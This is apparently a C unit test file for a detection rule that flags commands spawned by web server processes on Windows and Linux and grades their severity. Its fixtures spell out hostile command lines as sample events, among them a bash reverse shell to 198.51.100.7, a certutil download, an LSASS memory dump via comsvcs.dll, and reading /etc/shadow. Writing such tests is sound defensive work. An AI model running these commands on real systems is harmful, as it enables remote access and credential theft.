/* SPDX-License-Identifier: Apache-2.0
 *
 * Children of web servers, on Windows and Linux: what is told, how severe,
 * and what is passed over.
 */
#include "detect_drive.h"

static void
sysmon(const char *parent, const char *image, const char *line)
{
	at(KIND_WINEVENT, dr.nev);
	num(FIELD_WIN_EVENT_ID, 1);
	wide(FIELD_WIN_CHANNEL, "Microsoft-Windows-Sysmon/Operational");
	wide(FIELD_WIN_COMPUTER, "WEB1");
	wide(FIELD_PARENT_IMAGE, parent);
	wide(FIELD_IMAGE, image);
	wide(FIELD_COMMAND_LINE, line);
	wide(FIELD_PROC_USER, "IIS APPPOOL\\shop");
}

static void
linux_start(const char *parent, const char *parent_line, const char *image,
    const char *line, const char *user)
{
	at(KIND_PROCESS, dr.nev);
	str(FIELD_SYSLOG_HOST, "web2");
	if (parent != NULL)
		str(FIELD_PARENT_IMAGE, parent);
	if (parent_line != NULL)
		str(FIELD_PARENT_COMMAND_LINE, parent_line);
	str(FIELD_IMAGE, image);
	str(FIELD_COMMAND_LINE, line);
	str(FIELD_PROC_USER, user);
}

#define W3WP	"C:\\Windows\\System32\\inetsrv\\w3wp.exe"
#define CMD	"C:\\Windows\\System32\\cmd.exe"

/* -1: nothing told, else the severity. */
static int
win(const char *parent, const char *image, const char *line)
{
	again();
	sysmon(parent, image, line);
	return hunt("webserver-child") == 0 ? -1 : (int)dr.found[0].severity;
}

static int
lin(const char *parent, const char *parent_line, const char *image,
    const char *line, const char *user)
{
	again();
	linux_start(parent, parent_line, image, line, user);
	return hunt("webserver-child") == 0 ? -1 : (int)dr.found[0].severity;
}

static void
windows(void **unused)
{
	(void)unused;
	assert_int_equal(win(W3WP, CMD, "cmd.exe /c whoami"), SEV_HIGH);
	assert_true(says(0, "The web server w3wp started a discovery command "
	    "on WEB1 as IIS APPPOOL\\shop: cmd.exe /c whoami"));
	ENTITY_IS(0, HOST, "WEB1");
	ENTITY_IS(0, PROCESS, CMD);
	assert_int_equal(win(W3WP, CMD, "cmd.exe"), SEV_MEDIUM);
	assert_int_equal(win(W3WP, "C:\\Windows\\System32\\net1.exe",
	    "net1 user"), SEV_HIGH);
	assert_int_equal(win(W3WP, CMD, "cmd /c \"cd /d C:\\inetpub&"
	    "C:\\Windows\\System32\\certutil.exe -urlcache -f x y\""),
	    SEV_HIGH);
	assert_true(says(0, "a download or relay tool"));
	assert_int_equal(win(W3WP, CMD, "cmd /c rundll32 comsvcs.dll "
	    "MiniDump 600 a.dmp full"), SEV_CRITICAL);
	assert_int_equal(win("C:\\Program Files\\Tomcat\\bin\\Tomcat9.exe",
	    CMD, "cmd.exe /c ipconfig"), SEV_HIGH);
	assert_int_equal(win("C:\\xampp\\apache\\bin\\httpd.exe", CMD,
	    "cmd.exe /c dir"), SEV_MEDIUM);
	/* a database's shell is xp_cmdshell */
	assert_int_equal(win("C:\\MSSQL\\Binn\\sqlservr.exe", CMD,
	    "cmd.exe /c echo 1"), SEV_HIGH);
	assert_string_equal(dr.found[0].attack, "T1505.001 T1059");
	/* base64 names no tool */
	assert_int_equal(win(W3WP, CMD, "cmd /c echo AA/zip+BB/id/CC="),
	    SEV_MEDIUM);
}

static void
windows_misses(void **unused)
{
	(void)unused;
	assert_int_equal(win(W3WP,
	    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
	    "csc.exe /t:library"), -1);
	assert_int_equal(win(W3WP, "C:\\Windows\\System32\\WerFault.exe",
	    "WerFault.exe -u -p 1"), -1);
	assert_int_equal(win(W3WP, "C:\\Windows\\System32\\conhost.exe",
	    "conhost.exe 0xffffffff"), -1);
	assert_int_equal(win("C:\\Windows\\explorer.exe", CMD,
	    "cmd.exe /c whoami"), -1);
	assert_int_equal(win("C:\\jdk\\bin\\java.exe", CMD,
	    "cmd.exe /c whoami"), -1);	/* no web server by its line */
	again();
	sysmon(W3WP, CMD, "cmd.exe /c whoami");
	dr.ev[0].fields[0].v.u64 = 5;	/* process ended */
	assert_int_equal(hunt("webserver-child"), 0);
	again();
	sysmon(W3WP, CMD, "cmd.exe /c whoami");
	dr.ev[0].fields[1].v.len -= 2;	/* another channel */
	assert_int_equal(hunt("webserver-child"), 0);
}

static void
from_4688(void **unused)
{
	(void)unused;
	at(KIND_WINEVENT, 0);
	num(FIELD_WIN_EVENT_ID, 4688);
	wide(FIELD_WIN_CHANNEL, "Security");
	wide(FIELD_WIN_COMPUTER, "WEB1");
	wide(FIELD_PARENT_PROCESS, W3WP);
	wide(FIELD_NEW_PROCESS, "C:\\Windows\\System32\\whoami.exe");
	wide(FIELD_COMMAND_LINE, "whoami /all");
	wide(FIELD_SUBJECT_USER, "WEB1$");
	wide(FIELD_TARGET_USER, "-");
	str(FIELD_HASHES, "MD5=00,SHA256=AB12,IMPHASH=2");
	assert_int_equal(hunt("webserver-child"), 1);
	ENTITY_IS(0, HASH, "AB12");
	ENTITY_IS(0, USER, "WEB1$");
	ENTITY_IS(0, PROCESS, "C:\\Windows\\System32\\whoami.exe");
}

static void
on_linux(void **unused)
{
	(void)unused;
	assert_int_equal(lin("/usr/sbin/apache2", NULL, "/usr/bin/dash",
	    "sh -c id", "www-data"), SEV_HIGH);
	assert_true(says(0, "apache2 started a discovery command on web2 as "
	    "www-data: sh -c id"));
	assert_int_equal(lin("/usr/sbin/php-fpm8.2", NULL, "/usr/bin/bash",
	    "bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'",
	    "www-data"), SEV_HIGH);
	assert_true(says(0, "a download or relay tool"));
	assert_int_equal(lin("/usr/lib/jvm/bin/java",
	    "java -Dcatalina.home=/opt/tomcat org.apache.catalina", "/bin/sh",
	    "sh -c cat /etc/shadow", "tomcat"), SEV_CRITICAL);
	assert_int_equal(lin("/usr/lib/jvm/bin/java", NULL, "/usr/bin/tar",
	    "tar czf /tmp/a.tgz /opt/app", "horizon"), SEV_HIGH);
	assert_true(says(0, "an archiver"));
	assert_int_equal(lin("/usr/sbin/nginx", NULL, "/usr/bin/python3.11",
	    "python3 -c 'import pty'", "nginx"), SEV_MEDIUM);
	assert_int_equal(lin("/usr/sbin/nginx", NULL, "/usr/sbin/tcpdump",
	    "tcpdump -w x", "root"), SEV_CRITICAL);
	/* the parent is not known: the account stands for it, milder */
	assert_int_equal(lin(NULL, NULL, "/usr/bin/id", "id", "www-data"),
	    SEV_MEDIUM);
	assert_true(says(0, "The web server's account www-data"));
}

static void
linux_misses(void **unused)
{
	(void)unused;
	assert_int_equal(lin("/usr/sbin/apache2", NULL, "/bin/sh",
	    "/bin/sh -c /usr/bin/rotatelogs -l /var/log/a 86400", "root"), -1);
	assert_int_equal(lin("/usr/sbin/php-fpm8.2", NULL, "/bin/sh",
	    "sh -c /usr/sbin/sendmail -t -i", "www-data"), -1);
	assert_int_equal(lin("/usr/sbin/apache2", NULL, "/usr/sbin/apache2",
	    "/usr/sbin/apache2 -k start", "www-data"), -1);
	assert_int_equal(lin("/usr/lib/jvm/bin/java", "java -jar agent.jar",
	    "/bin/sh", "sh -c id", "build"), -1);
	assert_int_equal(lin("/usr/bin/bash", "-bash", "/usr/bin/id", "id",
	    "www-data"), -1);	/* an administrator's su */
	assert_int_equal(lin(NULL, NULL, "/usr/bin/id", "id", "root"), -1);
}

static void
folded(void **unused)
{
	(void)unused;
	sysmon(W3WP, CMD, "cmd.exe");
	sysmon(W3WP, CMD, "cmd.exe /c whoami");
	assert_int_equal(hunt("webserver-child"), 2);
	assert_true(span_eq(dr.found[0].fold, dr.found[1].fold));
	assert_true(span_eq(dr.found[0].fold, SPAN_LIT("WEB1|w3wp")));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		T(windows), T(windows_misses), T(from_4688), T(on_linux),
		T(linux_misses), T(folded),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
